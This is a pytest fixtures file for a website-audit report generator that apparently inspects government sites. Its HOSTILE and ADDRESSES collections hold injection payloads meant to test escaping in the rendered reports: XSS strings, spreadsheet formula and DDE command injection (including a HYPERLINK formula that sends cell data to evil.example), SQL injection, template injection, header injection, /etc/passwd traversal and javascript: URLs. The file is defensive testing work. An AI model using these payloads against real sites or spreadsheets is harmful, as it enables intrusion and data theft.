"""Views to write documents from: one entry as plain as can be, a run, and the texts that would like to break out."""

from datetime import date, datetime, timedelta
from itertools import cycle
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from checks.columns.genre import GENRES
from checks.findings import Excerpt, Place, Severity
from checks.scoring.checklist import Check
from checks.scoring.fault import Fault
from checks.scoring.line import Line
from checks.scoring.sheet import ScoreSheet
from checks.scoring.total import Total
from reports.run import Run, RunStatus
from reports.view.publication import publication
from reports.view.report import EntryView, ReportView
from reports.view.step import Step
from reports.view.units import unit_lines

ZONE = ZoneInfo("Asia/Shanghai")
SITE = "http://www.example.gov.cn"

HOSTILE = {
    "script": "</td></script><script>alert(1)</script>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "formula =": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "formula +": "+cmd|' /C calc'!A0",
    "formula -": "-2+3+cmd|' /C calc'!A0",
    "formula @": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula tab": "\t=1+1",
    "formula wide": "＝1＋1",
    "formula array": "{=1+1}",
    "template": "{{7*7}}{% for x in ().__class__.__mro__ %}${7*7}",
    "second line": "标题\r\nBcc: victim@example.org\r\n\r\n正文",
    "controls": "前\x00\x01\x08\x0b\x0c\x1f\x7f\x85后",
    "escape": "\x1b[31m红\x1b[0m",
    "direction": "附件\u202egpj.exe\u2066\u200f",
    "long": "长" * 40_000,
    "noncharacter": "甲\ufffe\uffff\ud800乙",
    "cdata": "<![CDATA[x]]>]]>&amp;&#60;",
    "markup of the workbook": "<r><t>红</t></r><r>",
    "rich text": "<r><rPr><b/></rPr><t>伪造</t></r>",
    "escape of the workbook": "_x0041__x000D_",
    "query": "'; DROP TABLE entries; --",
    "path": "../../../../etc/passwd",
    "log": "正常\n2026-11-23 ERROR 伪造",
    "comment": "--> <!-- <style>*{display:none}</style>",
}
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "internal:'整改台账'!A1",
    "external:\\\\evil.example\\share\\x.xlsx",
    "http://user:secret@evil.example/",
    "//evil.example/x",
    "",
    f"{SITE}/" + "a" * 8_000,
)


def make_entry(number: int = 1, **changes) -> EntryView:
    values = {
        "number": f"2026-{number:04d}",
        "site": "example",
        "family": "links",
        "rule": "broken_link",
        "severity": Severity.MINOR,
        "state": "待整改",
        "overdue": False,
        "rechecked": True,
        "needs_review": False,
        "url": f"{SITE}/gone/{number}.html",
        "places": (Place(f"{SITE}/page/{number}.html", "更多"),),
        "unit": "办公室",
        "first_seen": "2026-10-12",
        "last_seen": "2026-11-23",
        "title": "链接无法打开",
        "message": "链接无法访问，返回代码 404，共有1处引用。",
        "excerpt": None,
        "suggestion": "核对链接地址。",
        "basis": "《检查指标》一",
        "evidence": "GET broken http_404",
    }
    return EntryView(**{**values, **changes})


def make_run(**changes) -> Run:
    values = {
        "id": "20261123-1005",
        "site": "example",
        "start": f"{SITE}/",
        "name": "某某局网站",
        "started": datetime(2026, 11, 23, 10, 5, tzinfo=ZONE),
        "finished": datetime(2026, 11, 23, 10, 31, tzinfo=ZONE),
        "status": RunStatus.OK,
        "coverage": {"pages": 120, "links": 900, "columns": 2},
        "tool": "0.1.0",
        "ruleset": "3f9a1c77b2",
        "columns": (
            {"name": "要闻", "url": f"{SITE}/yw/", "kind": "news", "label": "动态、要闻类", "limit_days": 14,
             "latest": "2026-11-20", "items": 15, "state": "ok"},
            {"name": "信箱", "url": f"{SITE}/xx/", "kind": "other", "limit_days": None, "latest": None, "items": 0,
             "state": "unverified", "reason": "被防护系统拦截"},
        ),
        "figures": {"alive": 880, "dead": 12, "warn": 1, "unverified": 5, "not_checked": 2},
    }  # fmt: skip
    return Run(**{**values, **changes})


def make_publication(*columns: str) -> dict[str, Any]:
    """Two articles a month of this year in each column, and one without a day."""
    days = [f"2026-{month:02d}-{day}" for month in range(1, 12) for day in (11, 12)]
    articles = [
        {"day": day, "made": "", "genre": genre, "column": column, "files": 1, "title": "《实施办法》解读"}
        for column in columns
        for day, genre in zip([*days, ""], cycle(GENRES), strict=False)
    ]
    return publication(articles, date(2026, 11, 23)).as_json()


def make_hostile() -> ReportView:
    """Every hostile text in every field that crawling can reach."""
    texts = list(HOSTILE.values())
    entries = [
        make_entry(
            number, title=text, message=text, unit=text, suggestion=text, evidence=text, basis=text, url=text,
            places=(Place(text, text), Place(f"{SITE}/{text}", text)), excerpt=Excerpt(text, text, text),
        )
        for number, text in enumerate(texts, start=1)
    ]  # fmt: skip
    entries += [
        make_entry(number, url=address, places=(Place(address, "字"),)) for number, address in enumerate(ADDRESSES, 100)
    ]
    entries.append(make_entry(200, family="未知", excerpt=Excerpt("", "", "")))
    closed = tuple(make_entry(300 + number, reason=text, title=text) for number, text in enumerate(texts))
    columns = tuple({"name": text, "url": text, "state": text, "kind": text} for text in texts)
    run = make_run(
        name=HOSTILE["script"], notes=tuple(texts), failures=tuple(texts), columns=columns, start="javascript:alert(1)",
        tool="0.1.0", status=RunStatus.PARTIAL, publication=make_publication(*texts),
    )  # fmt: skip
    units = unit_lines(entries, closed, dict.fromkeys(texts, 1))
    return ReportView(run, tuple(entries), closed, units=units, course=make_course(12, 10), score=make_score(texts))


def make_course(*opened: int) -> tuple[Step, ...]:
    """Runs a week apart that left so many entries open; the last is that of `make_run`."""
    last = make_run().started
    return tuple(
        Step(
            run=f"run-{at}",
            started=last - timedelta(weeks=len(opened) - 1 - at),
            status=RunStatus.OK,
            open=count,
            new=2,
            relapsed=1,
            closed=4,
            unverified=0,
        )
        for at, count in enumerate(opened)
    )


def make_score(texts: list[str]) -> ScoreSheet:
    """A sheet on which every text stands in every place that crawling can reach."""
    faults = tuple(
        Fault("2026-0001", "broken_link", "", Severity.VETO, False, False, text, (Place(text, text),)) for text in texts
    )
    lines = tuple(Line(text, text, "met", text, text, faults[number:], faults) for number, text in enumerate(texts))
    checks = tuple(
        Check(text, text, text, text, text, ((text, address),), text)
        for text, address in zip(texts, cycle(ADDRESSES), strict=False)
    )
    return ScoreSheet(Total(texts[0], texts[0], None, None, tuple(texts)), lines, lines, checks)


@pytest.fixture(scope="session")
def entry():
    return make_entry


@pytest.fixture(scope="session")
def run():
    return make_run


@pytest.fixture(scope="session")
def view():
    """view(*entries, closed=(), course=(), **changes of the run)."""

    def make(*entries, closed=(), course=(), **changes):
        return ReportView(
            make_run(**changes), entries, tuple(closed), units=unit_lines(entries, closed, {}), course=tuple(course)
        )

    return make


@pytest.fixture(scope="session")
def hostile():
    return make_hostile()


@pytest.fixture(scope="session")
def hostile_texts():
    return HOSTILE


@pytest.fixture(scope="session")
def published():
    return make_publication


@pytest.fixture(scope="session")
def course():
    return make_course
